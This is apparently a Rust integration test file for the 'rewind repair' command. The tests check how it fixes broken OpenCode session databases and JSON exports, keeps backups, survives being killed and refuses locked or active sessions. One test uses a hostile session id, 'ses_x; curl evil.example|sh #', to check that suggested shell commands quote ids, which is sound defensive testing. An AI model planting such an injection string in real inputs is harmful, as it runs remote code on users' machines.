//! `rewind repair` on the OpenCode fixture databases: what it fixes, what it never touches, and
//! what happens when it is killed half-way.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::path::{Path, PathBuf};

use common::opencode::*;
use common::*;
use serde_json::{Value, json};

const FIXABLE: [&str; 6] = [
    "tool-never-finished",
    "step-unclosed",
    "step-merged",
    "empty-text-part",
    "message-incomplete",
    "tool-use-without-result",
];

fn fixture() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = build_db(&dir.path().join("opencode.db"), &sessions());
    (dir, path)
}

/// Runs `batch` (SQL statements) on the database at `db`.
fn sql(db: &Path, batch: &str) {
    rusqlite::Connection::open(db)
        .unwrap()
        .execute_batch(batch)
        .unwrap();
}

/// Every table's rows, as text, in a stable order.
fn dump(db: &Path) -> Vec<String> {
    let conn =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let mut out = Vec::new();
    for (table, key) in [
        ("session", "id"),
        ("message", "id"),
        ("part", "id"),
        ("event", "id"),
        ("event_sequence", "aggregate_id"),
    ] {
        let mut stmt = conn
            .prepare(&format!("SELECT * FROM {table} ORDER BY {key}"))
            .unwrap();
        let n = stmt.column_count();
        let rows = stmt
            .query_map([], |r| {
                let mut s = String::from(table);
                for i in 0..n {
                    s.push('|');
                    s.push_str(&format!("{:?}", r.get_ref(i).unwrap()));
                }
                Ok(s)
            })
            .unwrap();
        out.extend(rows.map(|r| r.unwrap()));
    }
    out
}

fn integrity(db: &Path) -> String {
    rusqlite::Connection::open(db)
        .unwrap()
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap()
}

fn repair(db: &Path, extra: &[&str]) -> (i32, Value) {
    let out = rewind()
        .args(["repair", "--format", "json"])
        .args(extra)
        .arg(db)
        .output()
        .unwrap();
    let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code().unwrap_or(-1), doc)
}

fn backups(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().contains(".rewind-backup-"))
        .collect()
}

#[test]
fn repair_fixes_every_fixable_finding_and_touches_nothing_else() {
    let (dir, db) = fixture();
    let original = dump(&db);
    let healthy = opencode::session_rows(&db, "ses_healthy");

    // As 1.18.25 sends the requests, the merged step breaks Anthropic's pairing. (The empty
    // text part is dropped before any request: nothing to repair there.)
    let (code, doc) = repair(&db, &["--opencode-version", "1.18.25"]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["applied"], true);
    let plan = doc["plan"].as_array().unwrap();
    let rules: Vec<&str> = plan.iter().map(|c| c["rule"].as_str().unwrap()).collect();
    for r in [
        "tool-never-finished",
        "schema-violation",
        "step-merged",
        "step-unclosed",
        "message-incomplete",
    ] {
        assert!(rules.contains(&r), "{r} planned: {rules:?}");
    }
    assert!(plan.iter().all(|c| c["session_id"] != "ses_healthy"));

    // Nothing fixable is left, for either provider's rules.
    for provider in ["anthropic", "openai"] {
        let (_, after) = diagnose_json(
            &db,
            &["--provider", provider, "--opencode-version", "1.18.25"],
        );
        let left: Vec<Value> = findings(&after)
            .into_iter()
            .filter(|f| FIXABLE.contains(&f["rule"].as_str().unwrap_or_default()))
            .collect();
        assert!(left.is_empty(), "{provider}: {}", describe(&left));
        let status: Vec<Value> = of_rule(&findings(&after), "schema-violation")
            .into_iter()
            .cloned()
            .collect();
        assert!(status.is_empty(), "{}", describe(&status));
    }
    assert_eq!(
        opencode::session_rows(&db, "ses_healthy"),
        healthy,
        "healthy rows changed"
    );
    assert_eq!(integrity(&db), "ok");

    // The backup equals the original.
    let b = backups(dir.path());
    assert_eq!(b.len(), 1);
    assert_eq!(dump(&b[0]), original);

    // The event log follows the changes.
    let conn = rusqlite::Connection::open(&db).unwrap();
    let (seq, max): (i64, i64) = conn
        .query_row(
            "SELECT (SELECT seq FROM event_sequence WHERE aggregate_id = 'ses_crash'), (SELECT max(seq) FROM event WHERE aggregate_id = 'ses_crash')",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(seq, max);
    assert!(seq > 5, "events appended: {seq}");

    // A second run changes nothing.
    let after_first = dump(&db);
    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0);
    assert_eq!(doc["plan"].as_array().unwrap().len(), 0, "{doc}");
    assert_eq!(dump(&db), after_first);
    assert_eq!(
        backups(dir.path()).len(),
        1,
        "no backup when nothing changes"
    );
}

#[test]
fn pr_16751_rebuilds_into_valid_blocks_after_repair() {
    let (_dir, db) = fixture();
    repair(&db, &["--session", "ses_pr16751"]);
    let (_, doc) = diagnose_json(&db, &["--session", "ses_pr16751", "--provider", "both"]);
    let f = findings(&doc);
    assert!(
        of_rule(&f, "tool-use-without-result").is_empty(),
        "{}",
        describe(&f)
    );
    assert!(of_rule(&f, "step-merged").is_empty(), "{}", describe(&f));
}

#[test]
fn dry_run_writes_nothing() {
    let (dir, db) = fixture();
    let before = dir_state(dir.path());
    let (code, doc) = repair(&db, &["--dry-run"]);
    assert_eq!(code, 0);
    assert!(!doc["plan"].as_array().unwrap().is_empty());
    assert_eq!(dir_state(dir.path()), before);
}

#[test]
fn a_locked_database_is_refused() {
    let (dir, db) = fixture();
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch("BEGIN IMMEDIATE; UPDATE session SET title = title;")
        .unwrap();
    let out = rewind().arg("repair").arg(&db).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("close OpenCode"), "{err}");
    conn.execute_batch("ROLLBACK").unwrap();
    assert!(backups(dir.path()).is_empty());
}

#[test]
fn killed_repairs_leave_the_original_or_the_repair() {
    let (_d, reference) = fixture();
    repair(&reference, &[]);
    let repaired_healthy = opencode::session_rows(&reference, "ses_healthy");
    for point in ["after-backup", "in-transaction", "before-commit"] {
        let (dir, db) = fixture();
        let original = dump(&db);
        let out = rewind()
            .env("REWIND_TEST_ABORT_AT", point)
            .arg("repair")
            .arg(&db)
            .output()
            .unwrap();
        assert_ne!(
            out.status.code(),
            Some(0),
            "{point}: the process was killed"
        );
        assert_eq!(integrity(&db), "ok", "{point}");
        let now = dump(&db);
        assert_eq!(now, original, "{point}: a killed repair left the original");
        assert_eq!(opencode::session_rows(&db, "ses_healthy"), repaired_healthy);
        let b = backups(dir.path());
        assert_eq!(b.len(), 1, "{point}");
        assert_eq!(dump(&b[0]), original, "{point}: backup equals the original");
        // And a repair afterwards completes.
        let (code, _) = repair(&db, &[]);
        assert_eq!(code, 0, "{point}");
    }
}

#[test]
fn exports_get_a_repaired_copy_next_to_them() {
    let (dir, db) = fixture();
    drop(db);
    let path = dir.path().join("session.json");
    let export = serde_json::json!({"info": {"id": "ses_x", "version": "1.18.33"}, "messages": [
        {"info": {"id": "msg_1", "role": "user", "time": {"created": T0}, "agent": "build", "model": {"providerID": "anthropic", "modelID": "claude"}},
         "parts": [{"id": "prt_1", "type": "text", "text": "hi"}]},
        {"info": {"id": "msg_2", "role": "assistant", "time": {"created": T0}, "parentID": "msg_1", "modelID": "claude", "providerID": "anthropic", "mode": "build", "path": {"cwd": "/", "root": "/"}, "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}},
         "parts": [{"id": "prt_2", "type": "step-start"}, {"id": "prt_3", "type": "tool", "tool": "bash", "callID": "c1", "state": {"status": "pending", "input": {}, "raw": ""}}]}
    ]});
    let text = serde_json::to_string_pretty(&export).unwrap();
    std::fs::write(&path, &text).unwrap();
    // Wide enough for the plan's lines to keep to one line.
    let out = rewind()
        .env("COLUMNS", "240")
        .arg("repair")
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("opencode session delete ses_x"), "{stdout}");
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        text,
        "never overwritten"
    );
    let copy = dir.path().join("session.repaired.json");
    let (_, doc) = diagnose_json(&copy, &[]);
    let left: Vec<Value> = findings(&doc)
        .into_iter()
        .filter(|f| FIXABLE.contains(&f["rule"].as_str().unwrap_or_default()))
        .collect();
    assert!(left.is_empty(), "{}", describe(&left));
}

#[test]
fn a_suggested_command_quotes_the_ids_it_carries() {
    // An id from the input goes into a paste-ready shell command: quoted, so that it is one word.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("session.json");
    let hostile = "ses_x; curl evil.example|sh #";
    let export = serde_json::json!({"info": {"id": hostile, "version": "1.18.33"}, "messages": [
        {"info": {"id": "msg_1", "role": "user", "time": {"created": T0}, "agent": "build", "model": {"providerID": "anthropic", "modelID": "claude"}},
         "parts": [{"id": "prt_1", "type": "text", "text": "hi"}]},
        {"info": {"id": "msg_2", "role": "assistant", "time": {"created": T0}, "parentID": "msg_1", "modelID": "claude", "providerID": "anthropic", "mode": "build", "path": {"cwd": "/", "root": "/"}, "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}},
         "parts": [{"id": "prt_2", "type": "step-start"}, {"id": "prt_3", "type": "tool", "tool": "bash", "callID": "c1", "state": {"status": "pending", "input": {}, "raw": ""}}]}
    ]});
    std::fs::write(&path, serde_json::to_string_pretty(&export).unwrap()).unwrap();
    // Wide enough for the plan's lines to keep to one line.
    let out = rewind()
        .env("COLUMNS", "240")
        .arg("repair")
        .arg(&path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("`opencode session delete 'ses_x; curl evil.example|sh #'`"),
        "{stdout}"
    );
}

#[test]
fn a_killed_export_repair_leaves_no_copy_and_the_next_run_cleans_up() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("session.json");
    std::fs::copy(repo("tests/fixtures/checks/message-incomplete.json"), &path).unwrap();
    let names = || -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(dir.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    // A partial copy a killed run left (another process id).
    std::fs::write(
        dir.path().join("session.repaired.json.partial-1"),
        "{\"info\"",
    )
    .unwrap();
    let out = rewind()
        .env("REWIND_TEST_ABORT_AT", "before-rename")
        .arg("repair")
        .arg(&path)
        .output()
        .unwrap();
    assert!(!out.status.success(), "the hook did not abort");
    // Nothing under the copy's name: only this run's partial copy (SIGABRT is not cleaned up).
    let left = names();
    assert!(
        !left.iter().any(|f| f.ends_with(".repaired.json")),
        "{left:?}"
    );
    assert!(
        !left.contains(&"session.repaired.json.partial-1".to_owned()),
        "{left:?}"
    );
    // Wide enough for the plan's lines to keep to one line.
    let out = rewind()
        .env("COLUMNS", "240")
        .arg("repair")
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(names(), ["session.json", "session.repaired.json"]);
    let copy: Value = serde_json::from_str(
        &std::fs::read_to_string(dir.path().join("session.repaired.json")).unwrap(),
    )
    .unwrap();
    assert!(copy["messages"].is_array());
}

/// The next request `rewind request` rebuilds for `session`, as JSON.
fn next_request(db: &Path, session: &str) -> Value {
    let out = rewind()
        .args(["request", "--format", "json", "--session", session])
        .arg(db)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The tool results of a rebuilt request: (call id, is_error).
fn tool_results(doc: &Value) -> Vec<(String, bool)> {
    doc["messages"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|m| m["blocks"].as_array().unwrap().iter())
        .filter(|b| b["type"] == "tool_result")
        .map(|b| {
            (
                b["tool_use_id"]
                    .as_str()
                    .or(b["call_id"].as_str())
                    .unwrap_or_default()
                    .to_owned(),
                b["is_error"] == true,
            )
        })
        .collect()
}

#[test]
fn a_repaired_running_tool_reaches_the_model_as_an_error() {
    let dir = tempfile::tempdir().unwrap();
    // Killed while `bash` ran: its partial output is in `metadata.output`.
    let running = json!({"status": "running", "input": {"command": "sleep 60"},
        "title": "sleep", "metadata": {"output": "partial output", "description": "sleep"},
        "time": {"start": T0}});
    let ses = Ses {
        id: "ses_killed",
        title: "Killed while a tool ran",
        messages: exchange(
            10,
            vec![step_start(), tool("bash", "toolu_Running", running)],
            false,
        ),
    };
    let db = build_db(&dir.path().join("opencode.db"), &[ses]);
    let before = tool_results(&next_request(&db, "ses_killed"));
    assert_eq!(before.len(), 1, "{before:?}");
    assert!(
        before[0].1,
        "OpenCode sends a running tool as an interrupted error"
    );

    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0, "{doc}");
    let conn = rusqlite::Connection::open(&db).unwrap();
    let data: String = conn
        .query_row(
            "SELECT data FROM part WHERE json_extract(data, '$.type') = 'tool'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let part: Value = serde_json::from_str(&data).unwrap();
    let state = &part["state"];
    assert_eq!(state["status"], "error");
    let error = state["error"].as_str().unwrap();
    assert!(
        error.starts_with("[Tool execution was interrupted") && error.contains("rewind repair"),
        "{error}"
    );
    assert!(
        state["metadata"].get("interrupted").is_none(),
        "OpenCode sends an interrupted tool's metadata.output as a success: {state}"
    );
    assert_eq!(
        state["metadata"]["output"], "partial output",
        "nothing is hidden"
    );
    assert_eq!(state["metadata"]["rewind"]["original"]["status"], "running");

    let after = tool_results(&next_request(&db, "ses_killed"));
    assert_eq!(after, before, "still an error result for the same call");
}

#[test]
fn an_empty_text_part_is_deleted_after_the_backup_and_nothing_is_put_in_its_place() {
    let dir = tempfile::tempdir().unwrap();
    // A reply cancelled before any text: its only part is an empty text part.
    let ses = Ses {
        id: "ses_blank",
        title: "Cancelled before any text",
        messages: exchange(10, vec![text(" ")], true),
    };
    let db = build_db(&dir.path().join("opencode.db"), &[ses]);
    let empty = prt_id(11, 0);
    let original = dump(&db);

    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0, "{doc}");
    let change = &doc["plan"][0];
    assert_eq!(change["rule"], "empty-text-part");
    assert_eq!(change["part_id"], empty.as_str());
    let words = change["change"].as_str().unwrap();
    assert!(
        words.starts_with("delete the empty text part: {"),
        "{words}"
    );
    assert!(words.contains("no parts"), "{words}");

    let conn = rusqlite::Connection::open(&db).unwrap();
    let left: i64 = conn
        .query_row("SELECT count(*) FROM part WHERE id = ?1", [&empty], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(left, 0, "the part is deleted");
    let kept: i64 = conn
        .query_row(
            "SELECT count(*) FROM message WHERE id = ?1",
            [msg_id(11)],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(kept, 1, "the message is kept");
    let texts: Vec<String> = conn
        .prepare("SELECT data FROM part")
        .unwrap()
        .query_map([], |r| r.get::<_, String>(0))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert!(texts.iter().all(|t| !t.contains("[empty]")), "{texts:?}");
    // The deleted row is in the backup.
    let b = backups(dir.path());
    assert_eq!(b.len(), 1);
    assert_eq!(dump(&b[0]), original);
    // The event log has no removal event to follow: said, not guessed.
    assert!(
        doc["caveats"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c.as_str().unwrap().contains("message.part.removed.1")),
        "{doc}"
    );

    // The rebuilt request leaves the message out, as OpenCode does; nothing is left to repair.
    let req = next_request(&db, "ses_blank");
    let roles: Vec<&str> = req["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["role"].as_str().unwrap())
        .collect();
    assert_eq!(roles, ["user"], "{req}");
    let (_, after) = diagnose_json(&db, &[]);
    assert!(
        of_rule(&findings(&after), "empty-text-part").is_empty(),
        "{after}"
    );
    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0);
    assert_eq!(doc["plan"].as_array().unwrap().len(), 0, "{doc}");
}

#[test]
fn an_export_loses_its_empty_text_part_in_the_copy() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("session.json");
    let export = json!({"info": {"id": "ses_x", "version": "1.18.33"}, "messages": [
        {"info": {"id": "msg_1", "role": "user", "time": {"created": T0}, "agent": "build", "model": {"providerID": "anthropic", "modelID": "claude"}},
         "parts": [{"id": "prt_1", "type": "text", "text": "hi"}]},
        {"info": {"id": "msg_2", "role": "assistant", "time": {"created": T0, "completed": T0 + 5}, "parentID": "msg_1", "modelID": "claude", "providerID": "anthropic", "mode": "build", "path": {"cwd": "/", "root": "/"}, "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}, "finish": "stop"},
         "parts": [{"id": "prt_2", "type": "step-start"}, {"id": "prt_3", "type": "text", "text": " "},
                   {"id": "prt_4", "type": "step-finish", "reason": "stop", "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}}]}
    ]});
    std::fs::write(&path, serde_json::to_string_pretty(&export).unwrap()).unwrap();
    // Wide enough for the plan's lines to keep to one line.
    let out = rewind()
        .env("COLUMNS", "240")
        .arg("repair")
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let copy: Value = serde_json::from_str(
        &std::fs::read_to_string(dir.path().join("session.repaired.json")).unwrap(),
    )
    .unwrap();
    let ids: Vec<&str> = copy["messages"][1]["parts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["prt_2", "prt_4"]);
}

#[test]
fn a_deleted_part_is_logged_like_the_sessions_earlier_removals() {
    let (_dir, db) = fixture();
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch(
        "INSERT INTO event (id, aggregate_id, seq, created, type, data) VALUES ('evt_ses_empty_0099', 'ses_empty', 99, 1, 'message.part.removed.1', '{\"sessionID\":\"ses_empty\",\"messageID\":\"msg_gone\",\"partID\":\"prt_gone\"}');
         UPDATE event_sequence SET seq = 99 WHERE aggregate_id = 'ses_empty';",
    )
    .unwrap();
    let (code, doc) = repair(&db, &["--session", "ses_empty"]);
    assert_eq!(code, 0, "{doc}");
    assert!(
        !doc["caveats"]
            .to_string()
            .contains("message.part.removed.1"),
        "{doc}"
    );
    let (seq, data): (i64, String) = conn
        .query_row(
            "SELECT seq, data FROM event WHERE aggregate_id = 'ses_empty' AND type = 'message.part.removed.1' ORDER BY seq DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert!(seq > 99);
    let data: Value = serde_json::from_str(&data).unwrap();
    assert_eq!(
        data,
        json!({"sessionID": "ses_empty", "messageID": msg_id(41), "partID": prt_id(41, 1)})
    );
}

/// Every session's events: (session, seq, type, data), with the repair's time masked.
fn events(db: &Path) -> Vec<(String, i64, String, String)> {
    let time = regex::Regex::new(r"\b1[0-9]{12}\b").unwrap();
    let conn = rusqlite::Connection::open(db).unwrap();
    let mut stmt = conn
        .prepare("SELECT aggregate_id, seq, type, data FROM event ORDER BY aggregate_id, seq")
        .unwrap();
    stmt.query_map([], |r| {
        Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get::<_, String>(3)?))
    })
    .unwrap()
    .map(|r| {
        let (s, q, t, d) = r.unwrap();
        (s, q, t, time.replace_all(&d, "T").into_owned())
    })
    .collect()
}

#[test]
fn a_store_without_event_indexes_gets_the_same_events() {
    // Not every migrated database has OpenCode's indexes on `event`: a repair reads each
    // session's log once, the same way with and without them, and appends one event per
    // change with the next seq (an event left at a higher seq than the sequence row counts).
    let (_a, indexed) = fixture();
    let (_b, bare) = fixture();
    for db in [&indexed, &bare] {
        sql(
            db,
            "INSERT INTO event (id, aggregate_id, seq, created, type, data) SELECT 'evt_late', aggregate_id, seq + 5, 1, 'session.updated', '{}' FROM event_sequence WHERE aggregate_id = 'ses_crash';",
        );
    }
    sql(
        &bare,
        "DROP INDEX event_aggregate_seq_idx; DROP INDEX event_aggregate_type_seq_idx;",
    );
    let before = events(&indexed);
    for db in [&indexed, &bare] {
        let (code, doc) = repair(db, &[]);
        assert_eq!(code, 0, "{doc}");
        assert_eq!(doc["applied"], true);
    }
    let after = events(&indexed);
    assert_eq!(events(&bare), after);
    assert!(after.len() > before.len() + 3, "events appended: {after:?}");
    // Each session's seqs run on without a gap or a repeat from where its log stood.
    let conn = rusqlite::Connection::open(&indexed).unwrap();
    for (session, n) in conn
        .prepare("SELECT aggregate_id, count(*) FROM event GROUP BY aggregate_id")
        .unwrap()
        .query_map([], |r| Ok((r.get::<_, String>(0)?, r.get::<_, i64>(1)?)))
        .unwrap()
        .map(Result::unwrap)
    {
        let seqs: Vec<i64> = (after.iter())
            .filter(|e| e.0 == session)
            .map(|e| e.1)
            .collect();
        let old = (before.iter()).filter(|e| e.0 == session).count();
        assert_eq!(seqs.len() as i64, n);
        let first_new = before.iter().filter(|e| e.0 == session).map(|e| e.1).max();
        for (k, seq) in seqs[old..].iter().enumerate() {
            assert_eq!(
                Some(*seq),
                first_new.map(|f| f + 1 + k as i64),
                "{session}: {seqs:?}"
            );
        }
        let stored: i64 = conn
            .query_row(
                "SELECT seq FROM event_sequence WHERE aggregate_id = ?1",
                [&session],
                |r| r.get(0),
            )
            .unwrap();
        if seqs.len() > old {
            assert_eq!(Some(&stored), seqs.last(), "{session}");
        }
    }
}

#[test]
fn an_event_table_of_another_shape_gets_no_events_and_a_caveat() {
    // An `event` table without the `type` column rewind reads: nothing is appended to it, the
    // plan says so, and the repair itself goes through.
    let (_dir, db) = fixture();
    sql(
        &db,
        "DROP INDEX event_aggregate_type_seq_idx; ALTER TABLE event DROP COLUMN type;",
    );
    let count = || -> i64 {
        rusqlite::Connection::open(&db)
            .unwrap()
            .query_row("SELECT count(*) FROM event", [], |r| r.get(0))
            .unwrap()
    };
    let before = count();
    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["applied"], true);
    assert!(
        doc["caveats"]
            .to_string()
            .contains("no `message.part.updated.1` event to follow"),
        "{doc}"
    );
    assert_eq!(count(), before);
}

fn now_ms() -> i64 {
    i64::try_from(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis(),
    )
    .unwrap()
}

#[test]
fn a_session_opencode_is_writing_is_refused_unless_forced() {
    let (dir, db) = fixture();
    // ses_crash's reply is open (no completion time); make its newest part a few seconds old,
    // as while OpenCode streams into it.
    sql(
        &db,
        &format!(
            "UPDATE part SET time_updated = {} WHERE session_id = 'ses_crash'",
            now_ms() - 3_000
        ),
    );
    let original = dump(&db);

    let out = rewind().arg("repair").arg(&db).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    for words in [
        "OpenCode may be writing",
        "session ses_crash",
        "no completion time",
        "--force",
        "the database was not changed",
    ] {
        assert!(err.contains(words), "{words}: {err}");
    }
    assert_eq!(dump(&db), original);
    assert!(backups(dir.path()).is_empty());

    // The dry run says so.
    let (code, doc) = repair(&db, &["--dry-run"]);
    assert_eq!(code, 0);
    assert!(
        doc["caveats"]
            .to_string()
            .contains("session ses_crash: its last reply has no completion time"),
        "{doc}"
    );

    // The other sessions can be repaired meanwhile.
    let (code, doc) = repair(&db, &["--session", "ses_empty"]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["applied"], true);

    // `--force`: the person knows no OpenCode is running.
    let (code, doc) = repair(&db, &["--force"]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["applied"], true);
    let rules: Vec<&str> = doc["plan"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["session_id"] == "ses_crash")
        .map(|c| c["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"message-incomplete"), "{rules:?}");
}

#[test]
fn an_open_reply_silent_for_longer_than_the_window_is_repaired() {
    let (_dir, db) = fixture();
    sql(
        &db,
        &format!(
            "UPDATE part SET time_updated = {} WHERE session_id = 'ses_crash'",
            now_ms() - 11 * 60 * 1000
        ),
    );
    let (code, doc) = repair(&db, &[]);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["applied"], true);
}

#[test]
fn a_session_written_between_the_plan_and_the_lock_is_refused() {
    let write = "UPDATE part SET time_updated = time_updated + 1 WHERE session_id = 'ses_crash'";
    let (dir, db) = fixture();
    let original = dump(&db);
    let out = rewind()
        .env("REWIND_TEST_SQL_AT", "after-plan")
        .env("REWIND_TEST_SQL", write)
        .arg("repair")
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("changed while rewind planned") && err.contains("session ses_crash changed"),
        "{err}"
    );
    // Only the other writer's change is there: no part was repaired.
    let now = dump(&db);
    assert_ne!(now, original);
    assert_eq!(now.len(), original.len());
    assert!(!now.iter().any(|r| r.contains("rewind")), "not repaired");
    assert!(backups(dir.path()).is_empty());

    // With --force the repair plans again from what is there now.
    let out = rewind()
        .env("REWIND_TEST_SQL_AT", "after-plan")
        .env("REWIND_TEST_SQL", write)
        .args(["repair", "--force"])
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_write_to_another_session_between_the_plan_and_the_lock_only_replans() {
    let (_dir, db) = fixture();
    let out = rewind()
        .env("REWIND_TEST_SQL_AT", "after-plan")
        .env(
            "REWIND_TEST_SQL",
            "UPDATE session SET title = 'renamed' WHERE id = 'ses_healthy'",
        )
        .args(["repair", "--format", "json"])
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["applied"], true);
}

#[test]
fn the_repair_marker_explains_a_change_and_exempts_nothing() {
    let dir = tempfile::tempdir().unwrap();
    // A pending tool closed by an earlier rewind the way OpenCode's cleanup closes one: the
    // marker is there, and so is the shape of a dropped error.
    let closed = json!({"status": "error", "input": {}, "error": "Tool execution aborted",
        "time": {"start": T0, "end": T0},
        "metadata": {"interrupted": true,
                     "rewind": {"rule": "tool-never-finished", "original": {"status": "pending"}}}});
    // And a text part with the marker that is empty all the same.
    let mut empty = text(" ");
    empty["metadata"] = json!({"rewind": {"rule": "empty-text-part", "original": null}});
    let ses = Ses {
        id: "ses_marked",
        title: "Marked parts",
        messages: exchange(
            10,
            vec![
                step_start(),
                tool("write", "toolu_Closed", closed),
                empty,
                step_finish(),
            ],
            true,
        ),
    };
    let db = build_db(&dir.path().join("opencode.db"), &[ses]);
    let (_, doc) = diagnose_json(&db, &[]);
    let f = findings(&doc);
    let dropped = of_rule(&f, "tool-error-dropped");
    assert_eq!(dropped.len(), 1, "{}", describe(&f));
    assert!(
        dropped[0]["notes"]
            .to_string()
            .contains("`rewind repair` changed this record (rule `tool-never-finished`; before: {\\\"status\\\":\\\"pending\\\"})"),
        "{}",
        dropped[0]
    );
    assert_eq!(of_rule(&f, "empty-text-part").len(), 1, "{}", describe(&f));
}

#[test]
fn a_reply_started_between_the_plan_and_the_lock_is_seen_when_planning_again() {
    let (dir, db) = fixture();
    let original = dump(&db);
    let now = now_ms();
    let mut info = assistant_info(now, &msg_id(60), false);
    info["time"]["created"] = json!(now);
    let sql = format!(
        "INSERT INTO message VALUES ('msg_zzzzzzzzzzzzFx000000000001', 'ses_healthy', {now}, {now}, '{info}')"
    );
    let out = rewind()
        .env("REWIND_TEST_SQL_AT", "after-plan")
        .env("REWIND_TEST_SQL", &sql)
        .arg("repair")
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("OpenCode may be writing") && err.contains("session ses_healthy"),
        "{err}"
    );
    assert_eq!(dump(&db).len(), original.len() + 1, "only the other write");
    assert!(backups(dir.path()).is_empty());
}

#[test]
fn an_empty_text_part_after_a_tool_in_one_step_is_repaired_whole() {
    let dir = tempfile::tempdir().unwrap();
    let ses = Ses {
        id: "ses_both",
        title: "Empty text after a tool, one step",
        messages: exchange(
            10,
            vec![
                step_start(),
                tool(
                    "read",
                    "toolu_Read",
                    completed(json!({"filePath": "a.ts"}), "ok"),
                ),
                text(" "),
                step_finish(),
            ],
            true,
        ),
    };
    let db = build_db(&dir.path().join("opencode.db"), &[ses]);
    let (_, before) = diagnose_json(&db, &["--provider", "both"]);
    let rules: Vec<String> = findings(&before)
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_owned())
        .collect();
    // (step-merged fires too today: the empty text follows the tool in one step.)
    assert!(rules.iter().any(|x| x == "empty-text-part"), "{rules:?}");
    let (code, doc) = repair(&db, &["--provider", "both"]);
    assert_eq!(code, 0, "{rules:?} {doc}");
    let (_, after) = diagnose_json(&db, &["--provider", "both"]);
    let left: Vec<Value> = findings(&after)
        .into_iter()
        .filter(|f| FIXABLE.contains(&f["rule"].as_str().unwrap_or_default()))
        .collect();
    assert!(left.is_empty(), "{rules:?}: {}", describe(&left));
}
